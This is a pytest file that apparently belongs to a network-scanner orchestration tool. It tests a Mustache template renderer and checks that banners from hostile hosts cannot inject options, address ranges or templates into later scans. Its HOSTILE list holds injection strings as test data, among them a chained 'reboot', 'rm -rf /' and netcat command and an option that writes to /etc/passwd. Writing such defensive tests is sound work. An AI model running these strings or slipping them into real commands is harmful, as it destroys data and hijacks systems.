"""Mustache, as far as it is read, and what a hostile host can make of it: nothing."""

from __future__ import annotations

from typing import Any

import pytest

from cascan.cascades.decision import DecisionKind
from cascan.templates.render import TemplateError, compile_template, render
from tests.support.cascading import a_finding, a_rule, decide, reasons, started

DATA: dict[str, Any] = {
    "name": "x",
    "none": None,
    "yes": True,
    "number": 3.0,
    "list": ["a", "b"],
    "hosts": [{"ip": "10.0.0.1"}, {"ip": "10.0.0.2"}],
    "a": {"b": {"c": 1}},
}


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ("plain", "plain"),
        ("{{name}}/{{ name }}", "x/x"),
        ("{{a.b.c}}", "1"),
        ("{{none}}{{nosuch}}{{a.b.nosuch}}{{a}}", ""),
        ("{{yes}} {{number}} {{list}}", "true 3 a,b"),
        ("{{#hosts}}{{ip}};{{/hosts}}", "10.0.0.1;10.0.0.2;"),
        ("{{#list}}{{.}}{{/list}}", "ab"),
        ("{{#name}}<{{.}}>{{/name}}{{#number}}{{.}}{{name}}{{/number}}", "<x>3x"),
        ("{{#yes}}{{name}}{{/yes}}{{#a.b.c}}{{name}}{{/a.b.c}}", "xx"),
        ("{{#none}}no{{/none}}{{^none}}yes{{/none}}", "yes"),
        ("{{#a}}{{b.c}} {{name}}{{/a}}", "1 x"),
        ("{{! a comment }}done", "done"),
        ("{{list.1}} {{hosts.0.ip}} {{list.length}}", "b 10.0.0.1 2"),
        ("{{list.2}}{{list.-1}}{{list.01}}{{list.one}}{{name.0}}", ""),
    ],
)
def test_what_a_template_renders_to(template: str, expected: str) -> None:
    assert render(compile_template(template), DATA).text == expected


@pytest.mark.parametrize(
    "template",
    ["{{", "{{a", "{{}}", "{{> file}}", "{{=<% %>=}}", "{{#a}}", "{{/a}}", "{{#a}}{{/b}}", "{{#asList}}a.b{{/asList}}",
     "{{#a}}" * 9 + "{{/a}}" * 9, "x" * 5_000],
)  # fmt: skip
def test_an_invalid_template_is_refused(template: str) -> None:
    with pytest.raises(TemplateError):
        compile_template(template)


def test_a_comment_in_a_parameter_is_left_out() -> None:
    rule = a_rule(parameters=["-Pn", "--max-retries{{! slow networks }}", "2", "{{! who }}{{$.hostOrIP}}"])
    (child,) = started(decide(rule, a_finding("10.0.0.1")))
    assert child.parameters == ("-Pn", "--max-retries", "2")


def test_sections_over_long_lists_end_at_a_limit() -> None:
    bomb = compile_template("{{#l}}" * 8 + "x" + "{{/l}}" * 8)
    with pytest.raises(TemplateError, match="more than"):
        render(bomb, {"l": list(range(1, 100))})


HOSTILE = [
    "{{$.hostOrIP}} {{#attributes}}{{port}}{{/attributes}}",
    "$(reboot); `id` && rm -rf / | nc 192.0.2.1 1",
    "-oN/etc/passwd",
    "10.0.0.1 --script evil",
    "10.0.0.0/8",
    "10.0.0.1-255",
    "10.0.0.*",
    "a,b",
    "\nnewline",
    "-",
    "ünïcode",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_banner_is_never_an_option_a_range_or_a_template(text: str) -> None:
    for parameters in (["{{attributes.banner}}"], ["-p{{attributes.banner}}", "10.0.0.1"]):
        decisions = decide(a_rule(parameters=parameters), a_finding(attributes={"banner": text}))
        assert started(decisions) == []
        assert len(reasons(decisions, DecisionKind.REFUSED)) == 1


@pytest.mark.parametrize("text", HOSTILE[:2])
def test_a_hostile_banner_stays_one_word_of_another_scanners_arguments(text: str) -> None:
    rule = a_rule(scanType="nikto", parameters=["-useragent", "{{attributes.banner}}"])
    (decision,) = decide(rule, a_finding(attributes={"banner": text}))
    assert decision.child is not None
    assert decision.child.parameters == ("-useragent", text)


def test_a_finding_cannot_widen_the_target_that_it_is() -> None:
    decisions = decide(a_rule(), a_finding(attributes={"hostname": "10.0.0.1-255"}))
    assert started(decisions) == []
    assert "is not a plain word" in reasons(decisions, DecisionKind.REFUSED)[0]
